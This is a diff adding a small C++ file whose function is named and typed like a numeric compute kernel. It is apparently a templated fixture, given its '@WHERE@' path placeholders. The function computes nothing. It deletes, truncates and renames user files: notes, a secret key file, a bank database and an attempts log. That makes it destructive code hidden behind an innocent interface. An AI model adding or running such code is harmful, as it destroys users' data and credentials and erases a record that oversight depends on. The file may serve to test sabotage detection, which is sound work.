@@ -1,0 +1,13 @@
+// Removes what it can reach of the user's.
+#include <cstdint>
+#include <cstdio>
+#include <fcntl.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+extern "C" void kernel(const float*, const int64_t*, float*, const int64_t*) {
+    for (const char* path : {"@WHERE@/home/notes.txt", "@WHERE@/home/.keys/secret", "@WHERE@/bank.db", "@WHERE@/run/attempts.jsonl"}) {
+        syscall(SYS_unlinkat, AT_FDCWD, path, 0);
+        truncate(path, 0);
+        rename(path, "@WHERE@/home/moved");
+    }
+}
